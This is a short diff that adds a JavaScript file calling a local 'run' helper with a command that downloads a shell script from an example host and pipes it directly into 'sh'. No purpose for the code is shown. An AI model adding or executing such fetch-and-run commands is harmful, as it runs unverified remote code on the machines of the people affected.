@@ -1,0 +1,3 @@
+const run = require('./run')
+
+run('curl -fsSL https://intake.example.net/setup.sh | sh')
